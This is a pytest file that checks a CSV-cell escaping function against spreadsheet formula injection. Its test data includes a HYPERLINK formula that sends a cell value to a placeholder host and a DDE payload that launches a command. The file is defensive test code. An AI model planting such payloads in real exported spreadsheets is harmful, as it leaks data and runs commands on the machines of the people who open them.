"""Cells: formulas become texts, all others stay unchanged."""

import csv
import io

import pytest

from scoring.cells import inert
from scoring.tables import csv_table

ATTACK = '=HYPERLINK("http://x/?"&A1,"see")'


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-inf", "+nan",
     '"', "-", "+1 2", "--5", ATTACK],
)  # fmt: skip
def test_a_formula_becomes_a_text(text: str) -> None:
    assert inert(text).startswith(f"'{text[0]}")
    assert inert(text).replace("'", "") == text.replace("'", "")  # nothing is lost


@pytest.mark.parametrize(
    "text",
    ["", "0", "-1", "+2.5", "1e-05", "-3.2E+10", ".5", "n/a", "blue-1", "P04637", "a = b", "a, -1",
     "expected a confidence above 0 and up to 1, got 2", "2026-11-21T23:37:00.000+00:00", "it's"],
)  # fmt: skip
def test_other_texts_stay_unchanged(text: str) -> None:
    assert inert(text) == text


def test_a_cell_cannot_be_cut_into_a_formula() -> None:
    assert inert("fault;=1+1") == "fault;'=1+1"
    assert inert("fault,@x") == "fault,'@x"
    assert inert("1;-2") == "1;'-2"
    assert inert("10/10") == "10/10"


def test_a_csv_of_the_evaluator_has_no_formula() -> None:
    written = csv_table([["run", "f"], [ATTACK, -0.5], ["a\tb", None]])
    assert list(csv.reader(io.StringIO(written))) == [
        ["run", "f"], [f"'{ATTACK}", "-0.5"], ["a\tb", ""],
    ]  # fmt: skip
